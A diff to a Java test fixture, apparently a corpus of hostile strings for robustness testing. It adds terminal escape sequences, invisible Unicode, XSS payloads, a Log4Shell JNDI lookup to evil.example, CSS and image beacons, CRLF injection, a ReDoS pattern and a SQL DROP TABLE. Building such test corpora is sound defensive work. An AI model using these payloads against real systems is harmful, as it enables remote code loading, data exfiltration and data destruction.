@@ -194,9 +194,57 @@ public final class HostileStrings {
 
   private HostileStrings() {}
 
+  /** What a terminal obeys, what looks like another text, what a chat or a log query obeys. */
+  private static List<String> generated() {
+    List<String> made = new ArrayList<>();
+    for (char last : "ABCDHJKSTfhlmnsu".toCharArray()) {
+      made.add("\u001b[1" + last + "x");
+    }
+    for (String order : List.of("0;t", "8;;https://evil.example", "52;c;cHduZWQ=", "1337;File=")) {
+      made.add("\u001b]" + order + "\u0007x");
+      made.add("\u001b]" + order + "\u001b\\x");
+      made.add("\u009d" + order + "\u009cx");
+    }
+    for (int c : new int[] {0x61c, 0x200b, 0x200e, 0x202a, 0x202e, 0x2060, 0x2066, 0xad, 0xe0041}) {
+      made.add("a" + Character.toString(c) + "b");
+    }
+    for (String twin :
+        List.of("\u00e9", "\u212b", "\u1e9b\u0323", "\ufb01", "\uff1cb\uff1e", "\u2460")) {
+      for (var form : java.text.Normalizer.Form.values()) {
+        made.add("n" + java.text.Normalizer.normalize(twin, form));
+      }
+    }
+    for (String tag :
+        List.of("svg/onload", "details open ontoggle", "body onload", "input onfocus")) {
+      made.add("<" + tag + "=alert(1)>");
+      made.add("'><" + tag + "=alert(1)>");
+    }
+    made.addAll(
+        List.of(
+            "<https://evil.example|status page>",
+            "<!channel>",
+            "<@U123>",
+            "[status](javascript:alert(1))",
+            "![x](https://evil.example/x.png)",
+            "| a | b |",
+            "```\nx",
+            "x;}body{background:url(//evil.example)}",
+            "</style><style>*{display:none}",
+            "</script><script>alert(1)</script>",
+            "${jndi:ldap://evil.example/a}",
+            "\"} |= `x` | json | line_format \"{{.x}}",
+            "(a+)+$",
+            "data: x\n\nevent: y",
+            "\r\n\r\n<html>",
+            "%0d%0aX-Injected:%201",
+            "$$; DROP TABLE run; $$"));
+    return made;
+  }
+
   /** Five hundred of them, in a fixed order; the first are the shortest to understand. */
   public static List<String> all() {
     Set<String> all = new LinkedHashSet<>(SEEDS);
+    all.addAll(generated());
     List<String> frames = List.of("'%'", "\"%\"", "a%b", "%\n%", "${%}", "{%}", "%;%", " %");
     for (String frame : frames) {
       for (String seed : SEEDS) {
